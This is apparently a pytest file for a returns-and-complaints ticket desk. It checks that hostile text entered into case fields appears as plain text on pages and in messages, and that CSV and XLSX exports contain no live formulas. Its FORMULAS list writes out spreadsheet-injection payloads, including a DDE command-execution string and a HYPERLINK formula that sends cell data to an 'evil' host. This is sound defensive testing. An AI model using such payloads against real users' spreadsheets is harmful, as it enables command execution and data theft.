"""Texts that try to be more than text, in every field of a case: each is kept and shown as it was written, on every page that
tells of it and in every file that is made of it."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from dataclasses import replace
from html import unescape
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.channels.checked import storable
from desk import masking
from desk.money import Money
from desk.shops.files import Import
from desk.shops.importing import apply_import
from desk.stock import Listing, Variant
from desk.store import Store, ticket_reasons
from desk.ticket.facts import Facts
from tests.bot.cases_room import GOODS, RUG
from tests.bot.test_ticket_card import CardRoom
from tests.browser.hostile import HOSTILE
from tests.conftest import Watch
from tests.console.counter import mina_opens
from tests.console.room import Person, Room
from tests.console.test_tickets import does

SHORT = [storable(text) for text in HOSTILE if len(text) < 200]
LONG = [text[:480] for text in HOSTILE if len(text) >= 200]
ELEMENTS = [text for text in SHORT if re.match('["<]', text)]
FORMULAS = (
    "=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1", "\n=1", "＝1+1", "－1", ";=1", "x;=1+1;y", "x\t=1", 'x;"=1',
    '"=1', '=HYPERLINK("http://evil/?"&A1,"x")', "=WEBSERVICE(A1)", 'a "b", c\r\n=1', "nul \0 and \ud800 half", "\u200b=1", "x;\u200b=1",
    "00017", "123456789012345678", "_x003D_1+1",
)  # fmt: skip


def in_groups(texts: list[str], most: int = 460) -> list[str]:
    """Several in one field: what is tried is the field, and a case for each would take long."""
    groups = [""]
    for text in texts:
        if len(groups[-1]) + len(text) > most:
            groups.append("")
        groups[-1] += f"{text} · "
    return groups


def beginning(text: str) -> str:
    return text[:12].encode("ascii", "replace").decode()


TEXTS = [*in_groups(SHORT), *LONG]


def words_of(page: str) -> str:
    """What is read on it: one blank for several, as a browser does; and what stands in its fields."""
    fields = re.findall(r'\s(?:value|alt|title)="([^"]*)"', page)
    return " ".join(
        unescape(" ".join([re.sub(r"<[^<>]*>", " ", re.sub(r"</?a\b[^<>]*>", "", page)), *fields])).split()
    )


def shows(page: str, text: str) -> bool:
    """As words and nothing else; as they are for whoever did not ask for addresses."""
    return not any(raw in page for raw in ELEMENTS) and any(
        " ".join(one.split()) in words_of(page) for one in (text, masking.text(text))
    )


@pytest.mark.parametrize("text", TEXTS, ids=beginning)
async def test_whatever_is_written_into_a_case_stands_on_its_pages_as_it_was_written(
    room: Room, text: str
) -> None:
    kept = text.strip(" ·")
    otto, walt = await room.person("Otto"), await room.person("Walt")
    reason = {"words-en": kept[:60], "kind-return": "1", "shown": "1"}
    ruth = await room.person("Ruth")
    assert (await ruth.post("/ticket-reasons", reason)).status == 303
    one = await room.store.read(lambda book: ticket_reasons.every(book)[-1])
    item = {"words": kept, "item": kept, "sku": kept[:64], "order_number": kept[:64], "reason_id": one.id}
    id = await mina_opens(room, **item)
    assert (await otto.post(f"/tickets/{id}/raising", {"note": text})).status == 303
    assert (await does(otto, id, "approve", {"goods": "100", "address": text, "note": text})).status == 303
    assert (await does(walt, id, "receive", {"carrier": kept[:80], "tracking": kept[:80]})).status == 303
    assert (await does(walt, id, "pass_inspection", {"note": text})).status == 303
    complaint = await mina_opens(
        room, "complaint", order_number="", sku="", item="", paid=0, goods=0, words=kept
    )
    for verb, form in (
        ("take_up", {"responsible": kept[:200]}),
        ("tell_outcome", {"note": text}),
        ("agree", {}),
        ("plan_measure", {"measure": text, "until": "2026-12-01T09:00"}),
    ):
        assert (await does(otto, complaint, verb, form)).status == 303, verb
    assert (await otto.post("/tickets/views", {"name": text, "back": "/tickets?show=mine"})).status == 303
    for path, told in (
        (f"/tickets/{id}", kept), (f"/tickets/{complaint}", kept), (f"/tickets/{id}/slip", kept), ("/tickets?show=all", kept),
        (f"/tickets/receive?number={id}", kept), ("/tickets?show=all", kept[:40]),
    ):  # fmt: skip
        page = await walt.page(path) if "receive" in path else await otto.page(path)
        assert shows(page, told), path
    assert shows(await ruth.page("/ticket-reasons"), " ".join(kept[:60].split()))


async def test_what_no_store_can_hold_is_left_out_and_the_rest_is_kept(both: Room) -> None:
    """Bytes that no browser sends."""
    otto, id = await both.person("Otto"), await mina_opens(both)
    body = f"csrf={otto.csrf}&note=half+%ED%A0%80+nul+%00+end".encode()
    headers = {"Origin": both.url, "Content-Type": "application/x-www-form-urlencoded"}
    answer = await otto.http.post(f"/tickets/{id}/raising", data=body, headers=headers, allow_redirects=False)
    assert answer.status == 303 and re.search(
        r"half \ufffd+ nul \ufffd end", await otto.page(f"/tickets/{id}")
    )


@pytest.mark.parametrize("text", TEXTS, ids=beginning)
async def test_the_card_says_it_too_in_one_message(
    sqlite_store: Store, watch: Watch, tmp_path: Path, text: str
) -> None:
    """Mina reads the shop's words: address and note, and what the article is called."""
    room, text = CardRoom(sqlite_store, watch, tmp_path), text.strip()
    await room.opens()
    variant = Variant(RUG, {}, Money(12_900, "CNY"), 9, None, "")
    await apply_import(room.store, Import((Listing(text[:100], text[:100], (), variant),), (), ()), watch())
    await room.bought("A-1002", RUG)
    await room.says("I want to return what I bought, order A-1002")
    await room.presses("Ordered by mistake")
    await room.says("yes")
    await room.sends_all()
    letters = await room.goes(room.otto, "approve", replace(GOODS, address=text))
    await room.goes(room.walt, "receive")
    letters += await room.goes(room.walt, "refuse_inspection", Facts(note=text, photos=1))
    card, *later = [letter.text for letter in letters]
    assert text in card and text[:100].strip() in card
    assert any(text in one for one in later)
    assert len(letters) == 3, "the card, its edit, and what she must know at once"


async def exported(ruth: Person, kind: str) -> bytes:
    answer = await ruth.post("/tickets/file", {"back": "/tickets?show=all", "as": kind})
    assert answer.status == 200 and answer.headers["Content-Disposition"].startswith("attachment")
    return await answer.read()


def is_formula(cell: str) -> bool:
    """To a program that leaves out what nobody sees."""
    seen = "".join(c for c in unicodedata.normalize("NFKC", cell) if c.isprintable()).lstrip()
    return seen.startswith(("=", "+", "-", "@"))


def as_it_came(cell: object) -> str:
    """Without the signs that were put before what might be a formula, and what XML cannot hold."""
    return "".join(c for c in str(cell) if c.isprintable() and c != "'")


async def test_no_cell_of_the_list_as_a_file_is_a_formula_and_each_says_what_it_said(room: Room) -> None:
    ruth = await room.person("Ruth")
    kept = [storable(text) for text in FORMULAS]
    for text in kept:
        await mina_opens(room, order_number=text, item=text)
    raw = (await exported(ruth, "csv")).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw, newline="")))[1:]
    assert [row[1].replace("'", "") for row in reversed(rows)] == [text.replace("'", "") for text in kept]
    assert not any(is_formula(cell) for row in rows for cell in row)
    for parts in (";", "\t", "\n"):
        assert not [cell for cell in raw.split(parts) if is_formula(cell.replace('"', ""))], (
            "parted by another sign"
        )
    sheet = load_workbook(io.BytesIO(await exported(ruth, "xlsx"))).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert {cell.data_type for cell in cells} <= {"inlineStr", "s", "n", "d"} and not any(
        is_formula(str(cell.value)) for cell in cells
    )
    orders = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert {one.data_type for one in orders} <= {"inlineStr", "s"}, "a number that is a name loses no digit"
    assert [as_it_came(one.value) for one in reversed(orders)] == [as_it_came(text) for text in kept]
